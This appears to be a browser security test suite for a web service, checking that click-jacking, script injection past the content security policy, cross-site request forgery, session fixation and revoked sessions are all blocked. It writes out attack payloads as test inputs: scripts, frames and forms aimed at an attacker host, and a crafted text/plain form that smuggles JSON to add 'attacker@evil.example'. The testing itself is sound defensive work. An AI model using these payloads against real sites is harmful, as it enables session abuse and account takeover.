/**
 * What pages of others, and scripts that got into ours, cannot do. The attacker is on another port of the same host: for the browser
 * that is the same site, so it sends the cookie in spite of SameSite=Strict.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Page } from 'playwright-core';
import { openBrowser } from '../browser-session.ts';
import { startTestService, waitFor } from '../harness.ts';
import { startAttacker } from './attacker.ts';
import { inspect, openPage, startChromium } from './chromium.ts';

const chromium = await startChromium();
const attacker = await startAttacker();
const service = await startTestService();
const cookieName = 'posthorn_session';

async function cookieOf(page: Page): Promise<string> {
  const cookies = await page.context().cookies(service.url);
  return cookies.find(({ name }) => name === cookieName)?.value ?? '';
}

/** How the service answered, as its log says: the browser does not show a page the answers to requests of another origin. */
function statusesOf(method: string, route: string): number[] {
  return service.logged
    .filter((line) => line.msg === 'request' && line.method === method && line.route === route)
    .map(({ status }) => Number(status));
}

test('click-jacking: the page of another does not show ours in a frame', async () => {
  const context = await chromium.open();
  const page = await openPage(context, service);
  await page.goto(attacker.page(`<iframe src="${service.url}/app/api-keys"></iframe>`));
  const shown = await waitFor('the frame', () => page.frames()[1]?.url());
  assert.equal(shown, 'chrome-error://chromewebdata/');
  await context.close();
});

test('content security policy: no script but our own runs, and nothing goes elsewhere', async () => {
  const context = await chromium.open();
  const page = await openPage(context, service);
  await page.getByRole('heading', { name: 'Home' }).waitFor();
  const broken = await page.evaluate<string[]>(`new Promise((resolve) => {
    const seen = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      seen.push(effectiveDirective);
      if (seen.length === 8) resolve(seen);
    });
    const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
    // What gets through ends the wait, and the assertions below say what is missing.
    add('script', { textContent: 'window.taken = "inline"' });
    if (window.taken) resolve(seen);
    add('script', { src: '${attacker.url}/script', onload: () => resolve(seen) });
    add('div', { innerHTML: '<img src="data:," onerror="window.taken = 1">' });
    add('iframe', { src: '${attacker.url}/frame' });
    add('base', { href: '${attacker.url}/' });
    add('object', { data: '${attacker.url}/object' });
    add('form', { action: '${attacker.url}/form', method: 'post' });
    document.querySelector('form[action]').submit();
    fetch('${attacker.url}/fetch', { mode: 'no-cors' }).then(
      () => resolve(seen),
      () => {},
    );
  })`);
  assert.deepEqual([...broken].sort(), [
    'base-uri',
    'connect-src',
    'form-action',
    'frame-src',
    'object-src',
    'script-src-attr',
    'script-src-elem',
    'script-src-elem',
  ]);
  assert.equal(await page.evaluate('window.taken'), undefined);
  assert.deepEqual(attacker.reached, []);
  await context.close();
});

test('CSRF: a page of the same site cannot use the session, by a form or by a script', async () => {
  const context = await chromium.open();
  const page = await openPage(context, service);
  await page.getByRole('heading', { name: 'Home' }).waitFor();
  const body = JSON.stringify({ value: 'attacker@evil.example' });
  const byScript = `fetch('${service.url}/identities', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '${body}' })`;
  await page.goto(attacker.page(`<script>${byScript}</script>`));
  await waitFor('the request of the script', () => statusesOf('POST', '/identities').length === 1);
  const name = body.slice(0, -1).replaceAll('"', '&quot;');
  const form = `<form action="${service.url}/identities" method="post" enctype="text/plain"><input name="${name},&quot;x&quot;:&quot;" value="&quot;}"></form>`;
  await page.goto(attacker.page(`${form}<script>document.forms[0].submit()</script>`)).catch(() => {});
  await waitFor('the request of the form', () => statusesOf('POST', '/identities').length === 2);
  // 401: the cookie did not count. 403 would be only the second line of defence, the CSRF token.
  assert.deepEqual(statusesOf('POST', '/identities'), [401, 401]);
  assert.deepEqual((await service.call('GET', '/identities')).body, []);
  await context.close();
});

test('CSRF: a request of our own origin needs the token of the session', async () => {
  const context = await chromium.open();
  const page = await openPage(context, service);
  await page.getByRole('heading', { name: 'Home' }).waitFor();
  const post = (token: string) =>
    page.evaluate<number>(`fetch('/identities', {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-csrf-token': '${token}' },
      body: '{"value":"own@shop.example"}',
    }).then(({ status }) => status)`);
  assert.equal(await post(''), 403);
  const { csrfToken } = await page.evaluate<{ csrfToken: string }>(
    `fetch('/sessions/current').then((answer) => answer.json())`,
  );
  assert.equal(await post(csrfToken), 201);
  await context.close();
});

test('session fixation: signing in replaces a session that someone else prepared', async () => {
  const stranger = await service.makeUser();
  const prepared = await openBrowser(service.url, { apiKey: stranger.apiKey });
  const planted = prepared.cookie.slice(cookieName.length + 1);
  const context = await chromium.open();
  await context.addCookies([{ name: cookieName, value: planted, url: service.url }]);
  const page = await context.newPage();
  await page.goto(`${service.url}/app/sign-in`);
  await page.getByLabel('API key').fill(service.user.apiKey);
  await page.keyboard.press('Enter');
  await page.getByRole('heading', { name: 'Home' }).waitFor();
  const cookie = await cookieOf(page);
  assert.ok(cookie !== '' && cookie !== planted, 'the planted session was kept');
  assert.equal((await prepared.call('GET', '/me')).status, 401);
  await context.close();
});

test('revocation: a browser that is signed out elsewhere shows the sign-in by itself', async () => {
  const user = await service.makeUser();
  const lost = await chromium.open({ userAgent: 'Mozilla/5.0 (iPhone) Safari/605.1' });
  const lostPage = await openPage(lost, service, 'messages', user);
  await lostPage.getByText('Live', { exact: true }).waitFor();
  const cookie = await cookieOf(lostPage);

  const own = await chromium.open();
  const page = await openPage(own, service, 'api-keys', user);
  await page.getByText('This browser').waitFor();
  const row = page.getByRole('row', { name: /Safari on iPhone/ });
  await row.getByRole('button', { name: 'Sign out' }).click();
  await inspect(page, 'sessions');
  await page.getByRole('dialog').getByRole('button', { name: 'Sign out' }).click();
  await row.waitFor({ state: 'detached' });

  await lostPage.getByRole('heading', { name: 'Sign in' }).waitFor();
  await lost.addCookies([{ name: cookieName, value: cookie, url: service.url }]);
  await lostPage.reload();
  await lostPage.getByRole('heading', { name: 'Sign in' }).waitFor();
  assert.ok(await page.getByText('This browser').isVisible());
  await Promise.all([lost.close(), own.close()]);
});
